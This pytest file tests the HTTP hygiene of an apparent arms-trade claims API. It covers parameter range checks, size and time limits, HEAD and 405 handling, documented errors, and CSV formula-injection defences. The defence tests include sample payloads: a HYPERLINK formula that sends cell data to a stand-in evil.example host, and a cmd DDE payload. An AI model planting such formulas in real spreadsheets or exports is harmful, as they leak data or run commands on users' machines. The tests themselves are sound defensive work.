"""HTTP hygiene of the app (issue 13): integer parameters range-checked, bounded work (form
fields, claims per request, seconds per request), CSV downloads no spreadsheet runs, HEAD on
every GET route, ``Allow`` on 405, every status documented, request schemas that say what the
server accepts, and API docs that load nothing from the internet."""

from __future__ import annotations

import copy
import csv
import io
import re
import time
from typing import Any

import pytest
from fastapi.testclient import TestClient
from jsonschema import Draft202012Validator

from armsledger.api import create_app
from armsledger.api.settings import ApiSettings
from armsledger.csvsafe import safe_cell, safe_frame
from armsledger.settings import Settings
from armsledger.store import Store

DY = "sipri-deliveries-2026-02"
CLAIM_TEXT = "Russian arms exports earned more than $15 billion in 2025"
HUGE = "99999999999999999999999"
MIB = 1024 * 1024


@pytest.fixture(scope="module")
def store(bundled_db):
    s = Store(bundled_db, read_only=True)
    yield s
    s.close()


@pytest.fixture(scope="module")
def client(store, bundled_db):
    app = create_app(ApiSettings(db_path=bundled_db, max_text_chars=20_000, release=DY),
                     store=store)
    with TestClient(app, raise_server_exceptions=False) as c:
        yield c


@pytest.fixture(scope="module")
def spec(client) -> dict[str, Any]:
    return client.get("/openapi.json").json()


def assert_error(r, status: int, code: str) -> dict[str, Any]:
    assert r.status_code == status, r.text[:300]
    body = r.json()
    assert set(body) == {"error"}
    assert body["error"]["status"] == status and body["error"]["code"] == code
    return body["error"]


def assert_error_page(r, status: int, code: str) -> None:
    assert r.status_code == status, r.text[:300]
    assert r.headers["content-type"].startswith("text/html")
    assert code in r.text


# -- 1. integer parameters ---------------------------------------------------------------------


def _int_params(spec: dict[str, Any]) -> list[tuple[str, str]]:
    """(path, name) of every integer query parameter of a GET operation."""
    out = []
    for path, ops in spec["paths"].items():
        for p in ops.get("get", {}).get("parameters", []):
            schema = p["schema"]
            types = [schema.get("type")] + [s.get("type") for s in schema.get("anyOf", [])]
            if p["in"] == "query" and "integer" in types:
                out.append((path, p["name"]))
    return out


def _url(path: str) -> str:
    return path.replace("{actor}", "RUS").replace("{which}", "exporters")


def test_every_integer_query_parameter_is_range_checked(client, spec):
    params = _int_params(spec)
    assert ("/api/deals", "page") in params and ("/api/deals", "from") in params
    for path, name in params:
        for value in (HUGE, "-" + HUGE):
            r = client.get(_url(path), params={name: value})
            error = r.json()["error"]
            assert r.status_code == 422, (path, name, value, r.text[:200])
            assert error["code"] in ("invalid_request", "bad_period"), (path, name)
    # the web pages' integer parameters: an HTML error page with the same status
    for url in (f"/deals?page={HUGE}", f"/deals?page_size=-{HUGE}", f"/?limit={HUGE}",
                f"/deals?from={HUGE}", f"/exporters/RUS?to=-{HUGE}"):
        r = client.get(url)
        assert r.status_code == 422 and r.headers["content-type"].startswith("text/html"), url
    # the connection and the app still answer
    assert client.get("/api/releases").status_code == 200


# -- 2. form fields over 1 MiB -----------------------------------------------------------------


def test_a_form_field_over_1_mib_is_413(client):
    big = "x" * (MIB + 1)
    assert_error_page(client.post("/claims", data={"text": big}), 413, "too_large")
    assert_error_page(client.post("/claims", files={"text": (None, big)}), 413, "too_large")
    assert_error_page(client.post("/claims", files={"published": (None, big)}), 413,
                      "too_large")
    # under the limit the form is read (and the text refused for its length: 413 too)
    r = client.post("/claims", data={"text": "x" * 20_001})
    assert r.status_code == 413 and "over the limit" in r.text


# -- 3. bounded work ---------------------------------------------------------------------------


def test_settings_from_the_environment(monkeypatch, tmp_path):
    s = Settings.resolve(tmp_path / "x.duckdb")
    assert (s.max_claims, s.max_request_seconds, s.max_text_chars) == (1000, 30.0, 200_000)
    monkeypatch.setenv("ARMSLEDGER_MAX_CLAIMS", "5")
    monkeypatch.setenv("ARMSLEDGER_MAX_REQUEST_SECONDS", "2.5")
    api = ApiSettings.resolve(tmp_path / "x.duckdb")
    assert (api.max_claims, api.max_request_seconds) == (5, 2.5)
    monkeypatch.setenv("ARMSLEDGER_MAX_CLAIMS", "many")
    with pytest.raises(Exception, match="ARMSLEDGER_MAX_CLAIMS='many' is not a number"):
        Settings.resolve(tmp_path / "x.duckdb")
    monkeypatch.setenv("ARMSLEDGER_MAX_CLAIMS", "0")
    with pytest.raises(Exception, match="positive"):
        Settings.resolve(tmp_path / "x.duckdb")


CLAIM = {"claimant": "x", "subject_exporter": "RUS", "metric": "export_value", "value": 1,
         "unit": "billion", "currency": "USD", "qualifier": "about", "period_start": "2020",
         "period_end": "2020", "quote": "q"}


def test_more_claims_than_the_limit_are_refused_quickly(client):
    start = time.monotonic()
    r = client.post("/api/claims/check", json={"claims": [CLAIM] * 100_000})
    elapsed = time.monotonic() - start
    error = assert_error(r, 413, "too_large")
    assert error["details"] == {"claims": 100_000, "limit_claims": 1000}
    assert elapsed < 10, f"{elapsed:.1f} s"
    assert_error(client.post("/api/claims/check", json={"claims": [CLAIM] * 1001}), 413,
                 "too_large")
    assert client.post("/api/claims/check", json={"claims": [CLAIM] * 3}).status_code == 200


def test_work_over_the_time_limit_is_413(store, bundled_db):
    settings = ApiSettings(db_path=bundled_db, release=DY, max_request_seconds=1e-9)
    with TestClient(create_app(settings, store=store)) as c:
        text = (CLAIM_TEXT + ". ") * 20
        for path, body in (("/api/claims/extract", {"text": text}),
                           ("/api/claims/check", {"text": text}),
                           ("/api/claims/check", {"claims": [CLAIM] * 50})):
            error = assert_error(c.post(path, json=body), 413, "too_large")
            assert "ARMSLEDGER_MAX_REQUEST_SECONDS" in error["message"]
        assert_error_page(c.post("/claims", data={"text": text}), 413, "too_large")
        # pages that do not check claims are not bounded by it
        assert c.get("/api/releases").status_code == 200


# -- 4. CSV formula injection ------------------------------------------------------------------

FORMULA = re.compile(r"^[=+\-@\t\r]")


def test_safe_cell_follows_owasp_for_strings_only():
    assert safe_cell('=HYPERLINK("http://x","y")') == '\'=HYPERLINK("http://x","y")'
    for bad in ("+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "-1e5"):
        assert safe_cell(bad) == "'" + bad
    # numbers stay numbers; a string that is wholly a plain number is read as that number
    for ok in (-5.2, -3, None, "-63.9%", "+12", "-1,234.5", "abc", "", "5-6"):
        assert safe_cell(ok) == ok


def test_safe_frame_changes_string_columns_only():
    import polars as pl

    frame = pl.DataFrame({"s": ["=1+1", "ok", None, "-63.9%"], "x": [-5.2, 1.0, None, 2.0]})
    lines = safe_frame(frame).write_csv().splitlines()
    assert lines == ["s,x", "'=1+1,-5.2", "ok,1.0", ",", "-63.9%,2.0"]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_an_uploaded_formula_never_starts_a_csv_cell(client):
    article = f'=HYPERLINK("http://evil.example/?"&A1,"click") {CLAIM_TEXT}.\n'.encode()
    r = client.post("/claims", files={"file": ("article.txt", article, "text/plain")},
                    data={"format": "csv", "table": "checks"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    cells = _cells(r.text)
    assert any("HYPERLINK" in c for c in cells), r.text[:500]
    bad = [c for c in cells if FORMULA.match(c) and safe_cell(c) != c]
    assert not bad, bad
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_the_claims_file_writer_neutralises_formulas():
    from dataclasses import replace

    from armsledger.claims.extract import extract
    from armsledger.claims.ledger import write_claims_csv

    claims = [replace(c, quote="=cmd|' /C calc'!A0", note="@SUM(1+1)")
              for c in extract(f"{CLAIM_TEXT}.")]
    assert claims
    cells = _cells(write_claims_csv(claims))
    assert not [c for c in cells if FORMULA.match(c) and safe_cell(c) != c]
    assert any(c.startswith("'=cmd") for c in cells)


# -- 5. HEAD, 405 and the documented statuses --------------------------------------------------

GET_URLS = ["/api/releases", "/api/actors?q=rus", "/api/deals?page_size=2",
            "/api/exporters/RUS/profile", "/api/recipients/IND/profile", "/api/top/exporters",
            "/api/tiv-table/importers", "/api/compare?actors=USA,RUS",
            "/api/exporters/RUS/trend", "/api/recipients/IND/trend", "/api/trend/RUS",
            "/api/screen?supplier=Russia&from=2020", f"/api/diff?old={DY}&new={DY}",
            "/", "/exporters/RUS", "/recipients/IND", "/claims", "/deals", "/embargoes",
            "/tiv-table", "/api/register?supplier=Russia&recipient=India",
            "/api/exporters/RUS/licensed", "/api/recipients/IND/base",
            "/api/exporters/RUS/base?recipient=CSTO", "/api/dependence?origin=Russia&group=CSTO",
            "/api/exporters/RUS/second-hand?from=2020", "/base?recipient=India",
            "/dependence?origin=Russia&group=CSTO",
            "/go?q=Russia", "/static/vega.js", "/static/style.css", "/openapi.json", "/docs",
            "/docs/openapi.json", "/docs/assets/swagger-ui.css", "/api/deals?page=0"]


def test_head_works_on_every_get_route(client, spec):
    api_gets = {p for p, ops in spec["paths"].items() if "get" in ops}
    covered = {re.sub(r"\?.*", "", u) for u in GET_URLS}
    for path in api_gets:
        assert any(re.fullmatch(re.sub(r"\{\w+\}", "[^/]+", path), u) for u in covered), path
    web_gets = {r.path for r in client.app.routes
                if "GET" in (getattr(r, "methods", None) or ()) and not r.path.startswith("/api")}
    for path in web_gets:
        assert any(re.fullmatch(re.sub(r"\{[\w:]+\}", ".+", path), u) for u in covered), path
    for url in GET_URLS:
        get = client.get(url, follow_redirects=False)
        head = client.head(url, follow_redirects=False)
        assert head.status_code == get.status_code, url
        assert head.content == b"", url
        assert head.headers.get("content-type") == get.headers.get("content-type"), url


@pytest.mark.parametrize(("method", "url", "allow"), [
    ("POST", "/api/releases", "GET, HEAD"),
    ("DELETE", "/api/deals", "GET, HEAD"),
    ("GET", "/api/claims/check", "POST"),
    ("HEAD", "/api/claims/extract", "POST"),
    ("PUT", "/claims", "GET, HEAD, POST"),
    ("POST", "/static/style.css", "GET, HEAD"),
    ("POST", "/docs", "GET, HEAD"),
])
def test_405_names_the_allowed_methods(client, method, url, allow):
    r = client.request(method, url)
    assert r.status_code == 405
    assert r.headers["allow"] == allow
    if method != "HEAD" and url.startswith("/api"):
        assert_error(r, 405, "method_not_allowed")


def _documented(spec: dict[str, Any], path: str, method: str) -> set[int]:
    return {int(s) for s in spec["paths"][path][method]["responses"]}


@pytest.mark.parametrize(("method", "path", "url", "kwargs", "status"), [
    ("get", "/api/diff", "/api/diff?old=nope&new=" + DY, {}, 404),
    ("get", "/api/diff", "/api/diff?old=x", {}, 422),
    ("get", "/api/screen", "/api/screen?embargo=NOPE", {}, 404),
    ("get", "/api/screen", "/api/screen?from=1800", {}, 422),
    ("get", "/api/deals", "/api/deals?release=nope", {}, 404),
    ("get", "/api/actors", "/api/actors?limit=0", {}, 422),
    ("get", "/api/top/{which}", "/api/top/importers?recipient=x", {}, 422),
    ("get", "/api/exporters/{actor}/profile", "/api/exporters/Nowhereland/profile", {}, 404),
    ("post", "/api/claims/extract", "/api/claims/extract", {"json": {"text": "x" * 20_001}},
     413),
    ("post", "/api/claims/extract", "/api/claims/extract",
     {"content": b"\xff\xfe", "headers": {"content-type": "application/json"}}, None),
    ("post", "/api/claims/check", "/api/claims/check", {"json": {}}, 422),
    ("post", "/api/claims/check", "/api/claims/check?release=nope",
     {"json": {"text": CLAIM_TEXT}}, 404),
])
def test_every_status_is_documented(client, spec, method, path, url, kwargs, status):
    r = client.request(method.upper(), url, **kwargs)
    if status is not None:
        assert r.status_code == status, r.text[:300]
    assert r.status_code in _documented(spec, path, method), (url, r.status_code)
    assert set(r.json()) == {"error"}


def test_every_operation_documents_its_errors(spec):
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            codes = {int(s) for s in op["responses"]}
            assert {200, 500, 503} <= codes, (method, path)
            if op.get("parameters") or op.get("requestBody"):
                assert 422 in codes, (method, path)
            if path.startswith("/api/claims"):
                assert 413 in codes, (method, path)
            for status, resp in op["responses"].items():
                if status != "200":
                    ref = resp["content"]["application/json"]["schema"]["$ref"]
                    assert ref.endswith("/ErrorBody"), (method, path, status)


def _body_validator(spec: dict[str, Any], path: str) -> Draft202012Validator:
    schema = copy.deepcopy(spec["paths"][path]["post"]["requestBody"]["content"]
                           ["application/json"]["schema"])
    schema["components"] = spec["components"]
    return Draft202012Validator(schema)


@pytest.mark.parametrize(("body", "accepted"), [
    ({}, False),
    ({"published": "2025-01-01"}, False),
    ({"text": CLAIM_TEXT}, True),
    ({"text": CLAIM_TEXT, "claims": None}, True),
    ({"claims": [CLAIM]}, True),
    ({"claims": [CLAIM], "text": None}, True),
    ({"claims": [], "text": CLAIM_TEXT}, False),
    ({"text": None, "claims": None}, False),
    ({"text": CLAIM_TEXT, "extra": 1}, False),
])
def test_the_check_schema_accepts_what_the_server_accepts(client, spec, body, accepted):
    valid = _body_validator(spec, "/api/claims/check").is_valid(body)
    assert valid is accepted
    r = client.post("/api/claims/check", json=body)
    assert (r.status_code == 200) is accepted, r.text[:300]


def test_published_is_a_date(client, spec):
    props = spec["components"]["schemas"]["TextIn"]["properties"]
    assert props["published"]["format"] == "date"
    for bad in ("soon", "", "20250101", "2025-02-30"):
        r = client.post("/api/claims/extract", json={"text": CLAIM_TEXT, "published": bad})
        assert_error(r, 422, "invalid_request")
    r = client.post("/api/claims/extract", json={"text": CLAIM_TEXT, "published": "2026-01-02"})
    assert r.status_code == 200


# -- 6. offline docs ---------------------------------------------------------------------------


def test_docs_load_nothing_from_the_internet(client):
    html = client.get("/docs").text
    assert "swagger-ui" in html
    assert not re.findall(r"""(?:src|href)\s*=\s*["']?https?://""", html), html
    assert not re.findall(r"""url:\s*['"]https?://""", html)
    for asset in re.findall(r"""(?:src|href)=["'](/[^"']+)""", html):
        assert client.get(asset).status_code == 200, asset
    assert client.get("/redoc").status_code == 404
    docs_spec = client.get("/docs/openapi.json").json()
    assert docs_spec["openapi"] == "3.0.3"
    assert set(docs_spec["paths"]) == set(client.get("/openapi.json").json()["paths"])


def test_a_claims_csv_with_a_formula_quote_reads_back_as_it_was(tmp_path):
    """write_claims_csv neutralises formulas; reading its file back drops only that quote."""
    from armsledger.claims.ledger import write_claims_csv
    from armsledger.claims.model import Claim
    from armsledger.sources.claims_file import read_claims_file

    claim = Claim(claimant="=HYPERLINK(\"http://x\")", subject_exporter="RUS",
                  metric="export_value", value=15, unit="billion", currency="USD",
                  qualifier="about", period_start="2025", period_end="2025",
                  quote="-'quoted' =SUM(A1) and 15 billion dollars")
    path = tmp_path / "claims.csv"
    path.write_text(write_claims_csv([claim]), encoding="utf-8")
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for c in row]
    assert "'=HYPERLINK(\"http://x\")" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    (back,) = read_claims_file(path)
    assert (back.claimant, back.quote) == (claim.claimant, claim.quote)


def test_a_claim_with_a_short_span_is_the_projects_error_not_an_index_error():
    from armsledger.claims.model import Claim
    from armsledger.errors import InvalidRequestError

    base = {"claimant": "x", "subject_exporter": "RUS", "metric": "rank", "value": 2,
            "unit": "rank", "currency": None, "qualifier": "exact", "period_start": "2024",
            "period_end": "2024", "quote": "second"}
    for bad in ({"span": [3]}, {"span": [1, 2], "mentions": [[1]]}):
        with pytest.raises(InvalidRequestError):
            Claim.from_dict({**base, **bad})


@pytest.mark.parametrize("value", [True, "2", [1]])
def test_a_claims_number_is_a_json_number_as_the_schema_says(client, value):
    """Found by the property test: pydantic's lax mode read ``true`` as 1 and ``"2"`` as 2."""
    claim = {"claimant": "x", "subject_exporter": "RUS", "metric": "rank", "value": value,
             "unit": "rank", "currency": None, "qualifier": "exact", "period_start": "2024",
             "period_end": "2024", "quote": "second"}
    r = client.post("/api/claims/check", json={"claims": [claim]})
    assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_request"
    ok = client.post("/api/claims/check", json={"claims": [{**claim, "value": 2}]})
    assert ok.status_code == 200
    span = client.post("/api/claims/check", json={"claims": [{**claim, "value": 2,
                                                              "span": [True, 3]}]})
    assert span.status_code == 422
